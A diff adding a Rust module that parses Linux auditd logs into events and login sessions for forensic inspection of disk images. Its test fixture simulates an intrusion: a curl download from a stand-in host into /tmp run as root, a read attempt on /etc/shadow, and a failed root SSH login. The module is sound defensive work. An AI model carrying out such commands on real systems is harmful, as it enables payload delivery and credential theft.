@@ -0,0 +1,679 @@
+// SPDX-License-Identifier: LGPL-3.0-or-later
+//! Linux audit (auditd) log parsing
+//!
+//! auditd writes one line per record; the records of one event (SYSCALL,
+//! EXECVE, CWD, PATH, PROCTITLE, ...) share the `msg=audit(TIME:SERIAL)`
+//! stamp. Records are grouped into events by that stamp, string fields
+//! auditd hex-encoded are decoded, the nested `msg='...'` of user-space
+//! records is flattened, and the fields `log_format = ENRICHED` appends
+//! after a `0x1d` separator are kept under their upper-case names.
+
+use crate::core::{Error, Result};
+use crate::guestfs::Guestfs;
+use serde::{Deserialize, Serialize};
+use std::collections::{BTreeMap, HashMap};
+use std::io::Read;
+
+const AUDIT_DIR: &str = "/var/log/audit";
+
+/// `auid` and `ses` of processes that never logged in
+const UNSET: u32 = u32::MAX;
+
+/// Fields auditd quotes when printable and hex-encodes otherwise
+const ENCODED_FIELDS: &[&str] = &[
+    "acct",
+    "cmd",
+    "comm",
+    "cwd",
+    "data",
+    "dir",
+    "exe",
+    "file",
+    "key",
+    "name",
+    "new",
+    "ocomm",
+    "old",
+    "path",
+    "proctitle",
+    "saddr",
+    "watch",
+];
+
+/// One line of the log
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct AuditRecord {
+    /// e.g. `SYSCALL`, `EXECVE`, `USER_LOGIN`
+    pub record_type: String,
+    pub fields: BTreeMap<String, String>,
+}
+
+/// A file an event touched (PATH record)
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct AuditPath {
+    pub name: String,
+    /// `NORMAL`, `CREATE`, `DELETE`, `PARENT`, ...
+    pub nametype: String,
+}
+
+/// The records sharing one `msg=audit(...)` stamp
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct AuditEvent {
+    /// Unix seconds
+    pub time: i64,
+    pub millis: u32,
+    pub serial: u64,
+    /// Host of a log aggregated with `name_format`
+    pub node: Option<String>,
+    pub records: Vec<AuditRecord>,
+}
+
+impl AuditEvent {
+    /// Type of the event's first record
+    pub fn kind(&self) -> &str {
+        self.records
+            .first()
+            .map(|r| r.record_type.as_str())
+            .unwrap_or("")
+    }
+
+    /// First value of field `name` across the records
+    pub fn field(&self, name: &str) -> Option<&str> {
+        self.records
+            .iter()
+            .find_map(|r| r.fields.get(name))
+            .map(String::as_str)
+    }
+
+    fn id_field(&self, name: &str) -> Option<u32> {
+        self.field(name)
+            .and_then(|v| v.parse::<u32>().ok())
+            .filter(|id| *id != UNSET)
+    }
+
+    /// Login UID: the account that logged in, kept across su and sudo
+    pub fn auid(&self) -> Option<u32> {
+        self.id_field("auid")
+    }
+
+    pub fn uid(&self) -> Option<u32> {
+        self.id_field("uid")
+    }
+
+    /// Login session
+    pub fn session(&self) -> Option<u32> {
+        self.id_field("ses")
+    }
+
+    /// Syscall name, from enriched logs or the x86_64/aarch64 tables
+    pub fn syscall(&self) -> Option<String> {
+        if let Some(name) = self.field("SYSCALL") {
+            return Some(name.to_string());
+        }
+        let number = self.field("syscall")?;
+        let name = match self.field("arch") {
+            Some("c00000b7") => aarch64_syscall(number.parse().ok()?),
+            _ => x86_64_syscall(number.parse().ok()?),
+        };
+        Some(
+            name.map(str::to_string)
+                .unwrap_or_else(|| number.to_string()),
+        )
+    }
+
+    /// Whether the syscall or user-space operation succeeded
+    pub fn success(&self) -> Option<bool> {
+        match (self.field("success"), self.field("res")) {
+            (Some(success), _) => Some(success == "yes"),
+            (None, Some(res)) => Some(matches!(res, "success" | "yes" | "1")),
+            _ => None,
+        }
+    }
+
+    /// Command line of an EXECVE record
+    pub fn argv(&self) -> Vec<String> {
+        let Some(execve) = self.records.iter().find(|r| r.record_type == "EXECVE") else {
+            return Vec::new();
+        };
+        let argc = execve
+            .fields
+            .get("argc")
+            .and_then(|v| v.parse::<usize>().ok())
+            .unwrap_or(0);
+        (0..argc)
+            .map_while(|i| execve.fields.get(&format!("a{}", i)).cloned())
+            .collect()
+    }
+
+    pub fn paths(&self) -> Vec<AuditPath> {
+        self.records
+            .iter()
+            .filter(|r| r.record_type == "PATH")
+            .filter_map(|r| {
+                Some(AuditPath {
+                    name: r.fields.get("name")?.clone(),
+                    nametype: r.fields.get("nametype").cloned().unwrap_or_default(),
+                })
+            })
+            .collect()
+    }
+
+    /// Remote address of a user-space (login, authentication) record
+    pub fn addr(&self) -> Option<&str> {
+        self.field("addr")
+            .or_else(|| self.field("hostname"))
+            .filter(|a| !a.is_empty() && *a != "?")
+    }
+
+    /// One-line description, e.g. `execve /usr/bin/curl -o /tmp/x http://...`
+    pub fn describe(&self) -> String {
+        let argv = self.argv();
+        let mut text = if !argv.is_empty() {
+            format!("execve {}", argv.join(" "))
+        } else if self.kind() == "SYSCALL" {
+            let mut text = format!(
+                "{} by {}",
+                self.syscall().unwrap_or_default(),
+                self.field("exe").or(self.field("comm")).unwrap_or("?")
+            );
+            if let Some(path) = self.paths().iter().find(|p| p.nametype != "PARENT") {
+                text.push_str(&format!(" on {}", path.name));
+            }
+            text
+        } else {
+            let mut text = self.kind().to_string();
+            for name in ["op", "acct", "cmd", "exe", "addr", "terminal"] {
+                if let Some(value) = self.field(name).filter(|v| *v != "?") {
+                    text.push_str(&format!(" {}={}", name, value));
+                }
+            }
+            text
+        };
+        if self.success() == Some(false) {
+            text.push_str(" (failed)");
+        }
+        if let Some(key) = self.field("key") {
+            text.push_str(&format!(" [{}]", key));
+        }
+        text
+    }
+}
+
+/// What one login session did, from the events carrying its `ses`
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct AuditSession {
+    pub session: u32,
+    pub auid: Option<u32>,
+    /// Remote address the session logged in from
+    pub addr: Option<String>,
+    pub terminal: Option<String>,
+    /// Unix seconds of the first and last event
+    pub start: i64,
+    pub end: i64,
+    /// Command lines executed, in order
+    pub commands: Vec<String>,
+    /// Syscalls that ran with UID 0 while the login UID was not 0
+    pub privileged: usize,
+    pub failed: usize,
+    pub events: usize,
+}
+
+/// Group events by login session, in order of session start
+pub fn correlate_sessions(events: &[AuditEvent]) -> Vec<AuditSession> {
+    let mut sessions: Vec<AuditSession> = Vec::new();
+    let mut index: HashMap<u32, usize> = HashMap::new();
+
+    for event in events {
+        let Some(id) = event.session() else {
+            continue;
+        };
+        let i = *index.entry(id).or_insert_with(|| {
+            sessions.push(AuditSession {
+                session: id,
+                auid: None,
+                addr: None,
+                terminal: None,
+                start: event.time,
+                end: event.time,
+                commands: Vec::new(),
+                privileged: 0,
+                failed: 0,
+                events: 0,
+            });
+            sessions.len() - 1
+        });
+        let session = &mut sessions[i];
+
+        session.events += 1;
+        session.end = session.end.max(event.time);
+        if session.auid.is_none() {
+            session.auid = event.auid();
+        }
+        if session.addr.is_none() {
+            session.addr = event.addr().map(str::to_string);
+        }
+        if session.terminal.is_none() {
+            session.terminal = event
+                .field("terminal")
+                .or(event.field("tty"))
+                .filter(|t| *t != "?" && *t != "(none)")
+                .map(str::to_string);
+        }
+        let argv = event.argv();
+        if !argv.is_empty() {
+            session.commands.push(argv.join(" "));
+        }
+        if event.success() == Some(false) {
+            session.failed += 1;
+        }
+        if event.kind() == "SYSCALL"
+            && event.uid() == Some(0)
+            && event.auid().is_some_and(|auid| auid != 0)
+        {
+            session.privileged += 1;
+        }
+    }
+    sessions
+}
+
+/// Split a record body into fields, keeping quoted values whole
+fn tokens(text: &str) -> Vec<(String, String)> {
+    let mut fields: Vec<(String, String)> = Vec::new();
+    let mut rest = text.trim_start();
+    while !rest.is_empty() {
+        let eq = rest.find('=');
+        // Words without `=` continue an unquoted value (`op=adding user`)
+        let words_end = match eq {
+            Some(eq) => rest[..eq].rfind(char::is_whitespace).map(|space| space + 1),
+            None => Some(rest.len()),
+        };
+        if let Some(end) = words_end {
+            let words = rest[..end].trim_end();
+            if let Some((_, value)) = fields.last_mut() {
+                if !value.starts_with(['"', '\'']) {
+                    value.push(' ');
+                    value.push_str(words);
+                }
+            }
+            rest = &rest[end..];
+            continue;
+        }
+        let Some(eq) = eq else {
+            break;
+        };
+        let name = rest[..eq].to_string();
+        let value_start = &rest[eq + 1..];
+        let (value, next) = match value_start.chars().next() {
+            Some(quote @ ('"' | '\'')) => match value_start[1..].find(quote) {
+                Some(end) => (
+                    format!("{}{}", quote, &value_start[1..end + 1]),
+                    &value_start[end + 2..],
+                ),
+                None => (value_start.to_string(), ""),
+            },
+            _ => {
+                let end = value_start
+                    .find(char::is_whitespace)
+                    .unwrap_or(value_start.len());
+                (value_start[..end].to_string(), &value_start[end..])
+            }
+        };
+        fields.push((name, value));
+        rest = next.trim_start();
+    }
+    fields
+}
+
+/// Decode a hex-encoded string field; NULs (proctitle) become spaces
+fn unhex(value: &str) -> Option<String> {
+    if value.is_empty()
+        || !value.len().is_multiple_of(2)
+        || !value.bytes().all(|b| b.is_ascii_hexdigit())
+    {
+        return None;
+    }
+    let bytes: Vec<u8> = (0..value.len())
+        .step_by(2)
+        .map(|i| u8::from_str_radix(&value[i..i + 2], 16))
+        .collect::<std::result::Result<_, _>>()
+        .ok()?;
+    let text = String::from_utf8_lossy(&bytes).replace('\0', " ");
+    Some(text.trim_end().to_string())
+}
+
+/// Whether `name` holds a string auditd may have hex-encoded
+fn is_encoded_field(name: &str) -> bool {
+    ENCODED_FIELDS.contains(&name)
+        || name.strip_prefix('a').is_some_and(|rest| {
+            let index = rest.split('[').next().unwrap_or(rest);
+            !index.is_empty()
+                && index.bytes().all(|b| b.is_ascii_digit())
+                && !rest.ends_with("_len")
+        })
+}
+
+/// Seconds, milliseconds and serial of `msg=audit(...)`
+type Stamp = (i64, u32, u64);
+
+/// Parse one line into the event stamp, node and record
+fn parse_line(line: &str) -> Option<(Stamp, Option<String>, AuditRecord)> {
+    let (raw, enriched) = match line.split_once('\x1d') {
+        Some((raw, enriched)) => (raw, Some(enriched)),
+        None => (line, None),
+    };
+
+    let mut node = None;
+    let mut record_type = None;
+    let mut stamp = None;
+    let mut fields = BTreeMap::new();
+    let mut execve_parts: BTreeMap<String, Vec<(usize, String)>> = BTreeMap::new();
+
+    for (name, value) in tokens(raw) {
+        match name.as_str() {
+            "node" if record_type.is_none() => node = Some(value),
+            "type" if record_type.is_none() => record_type = Some(value),
+            "msg" if stamp.is_none() && value.starts_with("audit(") => {
+                let inner = value.trim_start_matches("audit(");
+                let inner = &inner[..inner.find(')')?];
+                let (time, serial) = inner.split_once(':')?;
+                let (secs, millis) = time.split_once('.').unwrap_or((time, "0"));
+                stamp = Some((
+                    secs.parse().ok()?,
+                    millis.parse().ok()?,
+                    serial.parse().ok()?,
+                ));
+            }
+            "msg" => {
+                // User-space records carry their own fields in msg='...'
+                let inner = value.trim_matches('\'');
+                for (name, value) in tokens(inner) {
+                    fields
+                        .entry(name.clone())
+                        .or_insert_with(|| decode(&name, &value));
+                }
+            }
+            _ => {
+                // Long execve arguments come as a1_len=N a1[0]=... a1[1]=...
+                if let Some((arg, part)) = name.strip_suffix(']').and_then(|n| n.split_once('[')) {
+                    if let Ok(part) = part.parse::<usize>() {
+                        execve_parts
+                            .entry(arg.to_string())
+                            .or_default()
+                            .push((part, decode(&name, &value)));
+                        continue;
+                    }
+                }
+                let value = decode(&name, &value);
+                fields.insert(name, value);
+            }
+        }
+    }
+    for (arg, mut parts) in execve_parts {
+        parts.sort();
+        fields.insert(arg, parts.into_iter().map(|(_, part)| part).collect());
+    }
+    if let Some(enriched) = enriched {
+        for (name, value) in tokens(enriched) {
+            fields.insert(name, value.trim_matches('"').to_string());
+        }
+    }
+
+    Some((
+        stamp?,
+        node,
+        AuditRecord {
+            record_type: record_type?,
+            fields,
+        },
+    ))
+}
+
+/// Field value with quotes removed or hex decoded
+fn decode(name: &str, value: &str) -> String {
+    if let Some(quoted) = value.strip_prefix('"') {
+        return quoted.strip_suffix('"').unwrap_or(quoted).to_string();
+    }
+    if is_encoded_field(name) {
+        if let Some(text) = unhex(value) {
+            return text;
+        }
+    }
+    value.to_string()
+}
+
+/// Parse audit.log text into events, oldest first
+pub fn parse_audit_log(text: &str) -> Vec<AuditEvent> {
+    let mut events: Vec<AuditEvent> = Vec::new();
+    let mut open: HashMap<(Option<String>, u64), usize> = HashMap::new();
+
+    for line in text.lines() {
+        let Some(((time, millis, serial), node, record)) = parse_line(line) else {
+            continue;
+        };
+        let key = (node.clone(), serial);
+        if record.record_type == "EOE" {
+            open.remove(&key);
+            continue;
+        }
+        match open.get(&key) {
+            Some(&i) if events[i].time == time && events[i].millis == millis => {
+                events[i].records.push(record)
+            }
+            _ => {
+                open.insert(key, events.len());
+                events.push(AuditEvent {
+                    time,
+                    millis,
+                    serial,
+                    node,
+                    records: vec![record],
+                });
+            }
+        }
+    }
+
+    events.sort_by_key(|e| (e.time, e.millis, e.serial));
+    events
+}
+
+fn x86_64_syscall(number: u32) -> Option<&'static str> {
+    Some(match number {
+        2 => "open",
+        42 => "connect",
+        43 => "accept",
+        49 => "bind",
+        56 => "clone",
+        57 => "fork",
+        58 => "vfork",
+        59 => "execve",
+        62 => "kill",
+        82 => "rename",
+        84 => "rmdir",
+        87 => "unlink",
+        90 => "chmod",
+        91 => "fchmod",
+        92 => "chown",
+        101 => "ptrace",
+        105 => "setuid",
+        106 => "setgid",
+        113 => "setreuid",
+        117 => "setresuid",
+        165 => "mount",
+        166 => "umount2",
+        175 => "init_module",
+        176 => "delete_module",
+        257 => "openat",
+        260 => "fchownat",
+        263 => "unlinkat",
+        264 => "renameat",
+        268 => "fchmodat",
+        288 => "accept4",
+        313 => "finit_module",
+        316 => "renameat2",
+        322 => "execveat",
+        _ => return None,
+    })
+}
+
+fn aarch64_syscall(number: u32) -> Option<&'static str> {
+    Some(match number {
+        35 => "unlinkat",
+        38 => "renameat",
+        39 => "umount2",
+        40 => "mount",
+        52 => "fchmod",
+        53 => "fchmodat",
+        54 => "fchownat",
+        56 => "openat",
+        105 => "init_module",
+        106 => "delete_module",
+        117 => "ptrace",
+        129 => "kill",
+        144 => "setgid",
+        146 => "setuid",
+        200 => "bind",
+        202 => "accept",
+        203 => "connect",
+        220 => "clone",
+        221 => "execve",
+        242 => "accept4",
+        273 => "finit_module",
+        276 => "renameat2",
+        281 => "execveat",
+        _ => return None,
+    })
+}
+
+impl Guestfs {
+    /// Events of `/var/log/audit/audit.log` and its rotations, oldest first
+    pub fn auditd_events(&mut self) -> Result<Vec<AuditEvent>> {
+        self.ensure_ready()?;
+
+        if self.verbose {
+            eprintln!("guestfs: auditd_events");
+        }
+
+        if !self.is_dir(AUDIT_DIR).unwrap_or(false) {
+            return Ok(Vec::new());
+        }
+        let names: Vec<String> = self
+            .ls(AUDIT_DIR)?
+            .into_iter()
+            .filter(|name| name.starts_with("audit.log"))
+            .collect();
+
+        let mut text = String::new();
+        for name in names {
+            let path = format!("{}/{}", AUDIT_DIR, name);
+            if !self.is_file(&path).unwrap_or(false) {
+                continue;
+            }
+            let mut data = self.read_file(&path)?;
+            if name.ends_with(".gz") {
+                let mut decoded = Vec::new();
+                flate2::read::GzDecoder::new(&data[..])
+                    .read_to_end(&mut decoded)
+                    .map_err(|e| Error::InvalidFormat(format!("{}: {}", path, e)))?;
+                data = decoded;
+            }
+            text.push_str(&String::from_utf8_lossy(&data));
+            text.push('\n');
+        }
+        Ok(parse_audit_log(&text))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const LOG: &str = r#"type=USER_LOGIN msg=audit(1700000000.100:10): pid=900 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.9 terminal=sshd res=failed'
+type=USER_LOGIN msg=audit(1700000100.000:20): pid=901 uid=0 auid=1000 ses=3 msg='op=login id=1000 exe="/usr/sbin/sshd" hostname=? addr=198.51.100.7 terminal=/dev/pts/0 res=success'
+type=SYSCALL msg=audit(1700000200.250:30): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55e0 a2=55f0 a3=0 items=2 ppid=1200 pid=1201 auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 comm="curl" exe="/usr/bin/curl" key="exec"
+type=EXECVE msg=audit(1700000200.250:30): argc=4 a0="curl" a1="-o" a2=2F746D702F782073682E7368 a3="http://203.0.113.9/x"
+type=CWD msg=audit(1700000200.250:30): cwd="/root"
+type=PATH msg=audit(1700000200.250:30): item=0 name="/usr/bin/curl" inode=1 dev=fd:00 mode=0100755 ouid=0 ogid=0 nametype=NORMAL
+type=PROCTITLE msg=audit(1700000200.250:30): proctitle=6375726C002D6F
+type=EOE msg=audit(1700000200.250:30):
+type=SYSCALL msg=audit(1700000300.000:31): arch=c000003e syscall=257 success=no exit=-13 items=1 ppid=1 pid=1300 auid=1000 uid=1000 tty=pts0 ses=3 comm="cat" exe="/usr/bin/cat" key=(null)^ARCH=x86_64 SYSCALL=openat AUID="alice" UID="alice"
+type=PATH msg=audit(1700000300.000:31): item=0 name="/etc/shadow" nametype=NORMAL
+type=EXECVE msg=audit(1700000400.000:32): argc=2 a0="echo" a1_len=6 a1[0]="abc" a1[1]="def"
+garbage line
+"#;
+
+    /// `LOG` with `^` standing for the enriched-field separator
+    fn log() -> String {
+        LOG.replace('^', "\x1d")
+    }
+
+    #[test]
+    fn test_parse_audit_log() {
+        let events = parse_audit_log(&log());
+        assert_eq!(events.len(), 5);
+
+        assert_eq!(events[0].kind(), "USER_LOGIN");
+        assert_eq!(events[0].field("acct"), Some("root"));
+        assert_eq!(events[0].addr(), Some("203.0.113.9"));
+        assert_eq!(events[0].success(), Some(false));
+        assert_eq!(events[0].session(), None);
+
+        let exec = &events[2];
+        assert_eq!((exec.time, exec.millis, exec.serial), (1700000200, 250, 30));
+        assert_eq!(exec.records.len(), 5);
+        assert_eq!(exec.syscall().as_deref(), Some("execve"));
+        assert_eq!(
+            exec.argv(),
+            ["curl", "-o", "/tmp/x sh.sh", "http://203.0.113.9/x"]
+        );
+        assert_eq!(exec.field("cwd"), Some("/root"));
+        assert_eq!(exec.field("proctitle"), Some("curl -o"));
+        assert_eq!(exec.paths()[0].name, "/usr/bin/curl");
+        assert_eq!(
+            exec.describe(),
+            "execve curl -o /tmp/x sh.sh http://203.0.113.9/x [exec]"
+        );
+
+        let open = &events[3];
+        assert_eq!(open.syscall().as_deref(), Some("openat"));
+        assert_eq!(open.field("AUID"), Some("alice"));
+        assert_eq!(open.field("key"), Some("(null)"));
+        assert!(open
+            .describe()
+            .starts_with("openat by /usr/bin/cat on /etc/shadow (failed)"));
+
+        assert_eq!(events[4].argv(), ["echo", "abcdef"]);
+
+        let added = parse_audit_log(
+            "type=ADD_USER msg=audit(1700000500.000:40): pid=7 uid=0 auid=1000 ses=3 \
+             msg='op=adding user id=1001 exe=\"/usr/sbin/useradd\" res=success'",
+        );
+        assert_eq!(added[0].field("op"), Some("adding user"));
+        assert_eq!(added[0].field("exe"), Some("/usr/sbin/useradd"));
+    }
+
+    #[test]
+    fn test_correlate_sessions() {
+        let sessions = correlate_sessions(&parse_audit_log(&log()));
+        assert_eq!(sessions.len(), 1);
+        let session = &sessions[0];
+        assert_eq!(session.session, 3);
+        assert_eq!(session.auid, Some(1000));
+        assert_eq!(session.addr.as_deref(), Some("198.51.100.7"));
+        assert_eq!(session.terminal.as_deref(), Some("/dev/pts/0"));
+        assert_eq!(session.commands.len(), 1);
+        assert_eq!(session.privileged, 1);
+        assert_eq!(session.failed, 1);
+        assert_eq!((session.start, session.end), (1700000100, 1700000300));
+    }
+
+    #[test]
+    fn test_unhex() {
+        assert_eq!(unhex("2F746D70").as_deref(), Some("/tmp"));
+        assert_eq!(unhex("abc"), None);
+        assert_eq!(unhex("zz"), None);
+        assert!(is_encoded_field("a12"));
+        assert!(is_encoded_field("a1[0]"));
+        assert!(!is_encoded_field("a1_len"));
+        assert!(!is_encoded_field("arch"));
+    }
+}